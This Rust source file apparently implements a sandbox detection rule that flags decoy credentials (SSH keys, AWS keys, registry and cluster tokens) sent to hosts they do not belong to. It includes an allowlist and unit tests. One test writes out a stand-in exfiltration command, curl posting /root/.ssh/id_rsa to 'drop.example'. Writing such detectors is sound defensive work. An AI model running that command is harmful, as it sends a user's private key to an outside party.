//! Sees a planted secret on the wire, at somebody it does not belong to.
//!
//! - Sees: the mark of a decoy in what the sample sent, also inside base64, hex or gzip.
//! - Misses: secrets encrypted by the sample itself.
//! - False alarms: the services the credentials are for (cloud APIs for cloud keys, registries for their logins, forges for theirs) are a fact.
//! - Source: ATT&CK T1041, T1048, T1567.

use model::{Category, Confidence, Maturity, Severity, Weight};

use crate::{
    About, Behaviour, Judge, Match, indicators,
    lists::is_under,
    story::{Flow, Story, host_of},
};

pub(super) const BEHAVIOUR: Behaviour = Behaviour {
    about: About {
        id: "secret-sent",
        title: "Sends credentials away",
        category: Category::CredentialTheft,
        weight: Weight::Proof,
        severity: Severity::Critical,
        confidence: Confidence::Certain,
        maturity: Maturity::Stable,
        techniques: &["T1041", "T1048", "T1567"],
    },
    judge: Judge::Run(judge),
};

/// Whom a kind of credentials is for.
const MEANT_FOR: &[(&str, &[&str])] = &[
    (
        "aws-key",
        &[
            "amazonaws.com",
            "amazonaws.com.cn",
            "aws.amazon.com",
            "api.aws",
            "cloudflarestorage.com",
            "digitaloceanspaces.com",
            "backblazeb2.com",
            "wasabisys.com",
        ],
    ),
    (
        "cloud-metadata",
        &[
            "amazonaws.com",
            "amazonaws.com.cn",
            "api.aws",
            "googleapis.com",
            "azure.com",
            "windows.net",
            "azure.net",
            "microsoftonline.com",
            "aliyuncs.com",
            "metadata.google.internal",
        ],
    ),
    (
        "docker-config",
        &[
            "docker.io",
            "docker.com",
            "gcr.io",
            "ghcr.io",
            "quay.io",
            "pkg.dev",
            "azurecr.io",
            "gitlab.com",
            "registry.k8s.io",
            "amazonaws.com",
        ],
    ),
    ("git-credentials", &["github.com", "gitlab.com", "bitbucket.org", "codeberg.org", "dev.azure.com", "gitea.com"]),
    (
        "kubernetes-token",
        &[
            "kubernetes",
            "kubernetes.default",
            "kubernetes.default.svc",
            "kubernetes.default.svc.cluster.local",
            "cluster.local",
        ],
    ),
];

fn judge(story: &Story<'_>) -> Vec<Match> {
    let mut found = Vec::new();
    for flow in story.flows().filter(|flow| !flow.canaries.is_empty()) {
        let mut kinds: Vec<&str> = flow.canaries.iter().map(String::as_str).take(16).collect();
        kinds.sort_unstable();
        kinds.dedup();
        let stolen: Vec<&str> = kinds.iter().copied().filter(|kind| !is_meant_for(kind, flow)).collect();
        let who = flow.life.and_then(|life| story.last_program(life)).map_or("it", |program| program.tool());
        let at = flow.requests.last().copied().or(flow.end).unwrap_or(flow.start);
        let told = |kinds: &[&str]| Match::new(at, format!("{who} sends {} to {}", kinds.join(", "), place(flow)));
        if flow.inbound || stolen.is_empty() {
            found.push(told(&kinds).fact());
        } else {
            let urls = flow.requests.iter().rev().take(4).filter_map(|at| match story.what(*at) {
                Some(model::What::Http { url, .. }) => Some(indicators::url(url)),
                _ => None,
            });
            found.push(told(&stolen).with([indicators::host(flow)]).with(urls));
        }
    }
    found
}

fn is_meant_for(kind: &str, flow: &Flow<'_>) -> bool {
    if matches!(host_of(flow.remote), "169.254.169.254" | "169.254.170.2" | "100.100.100.200" | "fd00:ec2::254")
        && kind == "cloud-metadata"
    {
        return true;
    }
    let hosts = MEANT_FOR.iter().find(|(meant, _)| *meant == kind).map_or(&[][..], |(_, hosts)| *hosts);
    // The address of the cluster's own API.
    let cluster = kind == "kubernetes-token" && matches!(flow.port(), 443 | 6443) && !flow.is_public();
    cluster || flow.name.is_some_and(|name| hosts.iter().any(|host| is_under(name, host)))
}

fn place(flow: &Flow<'_>) -> String {
    flow.name.map_or_else(|| flow.remote.to_owned(), |name| format!("{name}, port {}", flow.port()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{Run, hit, miss};

    #[test]
    fn a_key_that_goes_to_a_stranger() {
        let mut run = Run::new();
        let curl = run.spawn(1, "/usr/bin/curl", &["curl", "-d", "@/root/.ssh/id_rsa", "u"]);
        run.flow_with(curl, "203.0.113.7:80", Some("drop.example"), "http", b"POST", &["ssh-key"]);
        hit(&BEHAVIOUR, run, Weight::Proof, "curl sends ssh-key to drop.example, port 80");
    }

    #[test]
    fn cloud_keys_that_leave_their_cloud() {
        let mut run = Run::new();
        run.flow_with(1, "203.0.113.7:4444", None, "sink", b"x", &["aws-key", "cloud-metadata"]);
        hit(&BEHAVIOUR, run, Weight::Proof, "aws-key, cloud-metadata to 203.0.113.7:4444");
    }

    #[test]
    fn a_client_that_signs_its_requests_is_none() {
        let mut run = Run::new();
        run.flow_with(1, "203.0.113.7:443", Some("s3.eu-west-1.amazonaws.com"), "tls", b"x", &["aws-key"]);
        run.flow_with(1, "169.254.169.254:80", None, "http", b"x", &["cloud-metadata"]);
        miss(&BEHAVIOUR, run);
    }

    #[test]
    fn logins_at_registry_forge_and_cluster_are_none() {
        let mut run = Run::new();
        run.flow_with(1, "203.0.113.7:443", Some("auth.docker.io"), "tls", b"x", &["docker-config"]);
        run.flow_with(1, "203.0.113.8:443", Some("github.com"), "tls", b"x", &["git-credentials"]);
        run.flow_with(1, "10.96.0.1:443", None, "tls", b"x", &["kubernetes-token"]);
        miss(&BEHAVIOUR, run);
    }
}
